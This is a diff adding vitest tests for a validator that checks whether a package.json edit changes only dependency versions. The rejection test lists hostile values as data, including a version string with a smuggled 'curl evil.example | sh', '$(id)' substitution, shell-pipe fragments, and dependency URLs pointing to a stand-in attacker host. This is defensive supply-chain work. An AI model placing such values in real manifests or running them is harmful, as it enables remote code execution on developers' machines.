@@ -1,5 +1,5 @@
 import { describe, expect, test } from "vitest";
-import { changedScriptNames, editedScriptNames } from "./script-parts.ts";
+import { changedScriptNames, changesVersionsOnly, editedScriptNames } from "./script-parts.ts";
 
 const manifest = (fields: object) => JSON.stringify({ name: "shop", scripts: { test: "vitest" }, ...fields });
 
@@ -62,5 +62,47 @@ describe("the scripts that an edit may change, by its texts alone", () => {
     const start = performance.now();
     editedScriptNames(line, `${line},`);
     expect(performance.now() - start).toBeLessThan(500);
+  });
+});
+
+describe("an edit of a package.json changes versions only", () => {
+  test("if every line that differs gives packages versions of the registry", () => {
+    for (const [before, after] of [
+      ['"dependencies": {}', '"dependencies": { "zod": "^4.0.0" }'],
+      ['"a": "1.0.0"', '"a": "1.0.0",\n    "b": "~2.1", "c": ">=1 <3 || 4.x"'],
+      ['"a": "^1.2.3-beta.1",', '"a": "2",'],
+      ['"version": "1.0.0"', '"version": "1.0.1"'],
+      ['"a": "1"', '"a": "workspace:*"'],
+    ] as const)
+      expect(changesVersionsOnly(before, after), after).toBe(true);
+  });
+
+  test("and not if a package comes from elsewhere, or the text might be a command or code", () => {
+    for (const after of [
+      '"a": "git+https://evil.example/a.git"',
+      '"a": "https://evil.example/a.tgz"',
+      '"a": "file:../a"',
+      '"a": "evil/a"',
+      '"a": "npm:evil@1"',
+      '"a": "latest"',
+      '"a": "*"',
+      '"a": "1.0.0; curl evil.example | sh"',
+      '"a": "1.0.0$(id)"',
+      '"a": "|| sh"',
+      '"a": "1 || sh"',
+      '"a": "-"',
+      '"dependencies": { "a": "evil/a" }',
+      '"dependencies": { "a": { "b": "1" } }',
+      '"dependencies": null }, "scripts": { "test": "sh x"',
+      '"scripts": { "test": "1" }',
+      '"scripts": {',
+      '}, "scripts": { "test": "1"',
+      '"overrides": { "a": "1" }',
+      '"a": 1',
+      '"a": true',
+      '"a"',
+      "x",
+    ])
+      expect(changesVersionsOnly('"a": "1"', after), after).toBe(false);
   });
 });
